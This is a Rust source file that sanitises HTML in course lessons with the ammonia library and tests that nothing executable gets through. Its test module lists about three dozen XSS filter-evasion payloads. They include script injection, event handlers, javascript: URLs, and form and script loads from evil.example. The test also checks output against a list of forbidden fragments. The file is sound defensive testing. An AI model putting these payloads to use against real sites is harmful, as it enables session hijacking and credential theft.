//! What HTML a lesson may hold. Course authors are not trusted with the reader's session.

use std::borrow::Cow;
use std::collections::HashSet;

use ammonia::Builder;

/// The HTML without scripts, styles, forms, frames, event handlers, foreign classes and addresses
/// that are not links; well-formed, so that [`super::rewrite`] can rely on its shape.
pub(crate) fn sanitise(html: &str) -> String {
    let checkbox = ["checkbox"].into_iter().collect::<HashSet<_>>();
    let mut builder = Builder::default();
    builder
        .add_tags(["section", "input", "tfoot"])
        .rm_tags(["map", "area", "center"])
        .add_generic_attributes(["id"])
        .add_tag_attributes("a", ["name", "class"])
        .add_tag_attributes("blockquote", ["class"])
        .add_tag_attributes("code", ["class"])
        .add_tag_attributes("details", ["open"])
        .add_tag_attributes("div", ["class"])
        .add_tag_attributes("section", ["class", "data-exercise"])
        .add_tag_attributes("span", ["class"])
        .add_tag_attributes("sup", ["class"])
        .add_tag_attributes("td", ["style"])
        .add_tag_attributes("th", ["style"])
        .add_tag_attributes("input", ["checked"])
        // A box that shows a state; never one to type into.
        .add_tag_attribute_values("input", "type", checkbox)
        .set_tag_attribute_value("input", "type", "checkbox")
        .set_tag_attribute_value("input", "disabled", "")
        .filter_style_properties(["text-align"].into_iter().collect())
        .url_schemes(["http", "https", "mailto"].into_iter().collect())
        .link_rel(Some("noopener"))
        .attribute_filter(filter);
    builder.clean(html).to_string()
}

fn filter<'v>(element: &str, attribute: &str, value: &'v str) -> Option<Cow<'v, str>> {
    match attribute {
        "class" => {
            let kept: Vec<&str> = value.split_whitespace().filter(|class| is_ours(element, class)).collect();
            (!kept.is_empty()).then(|| Cow::Owned(kept.join(" ")))
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Classes that the web app has a look for; others could dress a lesson up as a part of the app.
fn is_ours(element: &str, class: &str) -> bool {
    match element {
        "code" => class.strip_prefix("language-").is_some_and(|name| {
            !name.is_empty()
                && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+#._-".contains(&byte))
        }),
        "span" => matches!(class, "math" | "math-inline" | "math-display" | "caption" | "filename"),
        "div" => matches!(class, "footnote-definition" | "warning" | "note"),
        "section" => class == "exercise",
        "sup" => matches!(class, "footnote-reference" | "footnote-definition-label"),
        "blockquote" => class.starts_with("markdown-alert-"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::path::Path;

    use super::super::rewrite::{Site, rewrite};
    use super::*;

    /// After the OWASP cheat sheet on filter evasion, and what Markdown pages make possible.
    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=`javascript:alert(1)`>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=x onclick=alert(1)>x</a>",
        "<a href=x onmouseover = 'alert(1)'>x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
        "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example><link rel=stylesheet href=x>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<td style=\"text-align:center;position:fixed\">x</td>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<div class=\"modal app-shell\" data-action=ask>x</div>",
        "<section data-exercise=\"x\" onclick=\"alert(1)\">x</section>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<input type=text autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<a href=\"https://evil.example\" target=_self rel=opener>x</a>",
        "<body onload=alert(1)>",
        "<template><script>alert(1)</script></template>",
    ];

    #[test]
    fn nothing_that_runs_gets_through() {
        for attack in ATTACKS {
            // As a reader gets it.
            let (lessons, page) = (BTreeMap::new(), Path::new("p.md"));
            let site = Site { course: "c", src: Path::new(""), lessons: &lessons };
            let clean = rewrite(&sanitise(attack), page, &site, &|_| false).html.to_lowercase();
            for bad in [
                "<script",
                "javascript:",
                "vbscript:",
                "data:text",
                "onerror=",
                "onclick",
                "onload",
                "onmouseover",
                "onfocus",
                "ontoggle",
                "<iframe",
                "<object",
                "<embed",
                "<form",
                "<button",
                "<meta",
                "<base",
                "<link",
                "<style",
                "<svg",
                "<math",
                "<video",
                "position",
                "background",
                "modal",
                "data-action",
                "type=\"text\"",
                "<textarea",
                "opener\" rel",
                "_self",
                "<!--",
            ] {
                // Escaped text is harmless: only what stands in a tag counts.
                let in_tags: String = clean
                    .split('<')
                    .skip(1)
                    .map(|rest| format!("<{}", rest.split_once('>').map_or(rest, |(tag, _)| tag)))
                    .collect();
                assert!(!in_tags.contains(bad), "{attack} became {clean}");
            }
        }
    }

    #[test]
    fn what_lessons_are_made_of_stays() {
        for kept in [
            "<h2 id=\"big-o\">Big O</h2>",
            "<pre><code class=\"language-c++\">a &lt; b</code></pre>",
            "<span class=\"math math-inline\">a &lt; b</span>",
            "<section class=\"exercise\" data-exercise=\"sum-1\" id=\"exercise-sum-1\"><p>x</p></section>",
            "<td style=\"text-align:center\">x</td>",
            "<blockquote class=\"markdown-alert-note\"><p>x</p></blockquote>",
            "<sup class=\"footnote-reference\"><a href=\"#fn-1\" rel=\"noopener\">1</a></sup>",
            "<details><summary>x</summary>y</details>",
            "<img src=\"img/a.png\" alt=\"A\">",
        ] {
            let html = if kept.starts_with("<td") {
                format!("<table><tbody><tr>{kept}</tr></tbody></table>")
            } else {
                kept.to_owned()
            };
            assert_eq!(sanitise(&html), html);
        }
        let task = sanitise("<ul><li><input disabled=\"\" type=\"checkbox\" checked=\"\"/> done</li></ul>");
        assert!(task.contains("type=\"checkbox\"") && task.contains("checked"), "{task}");
    }
}
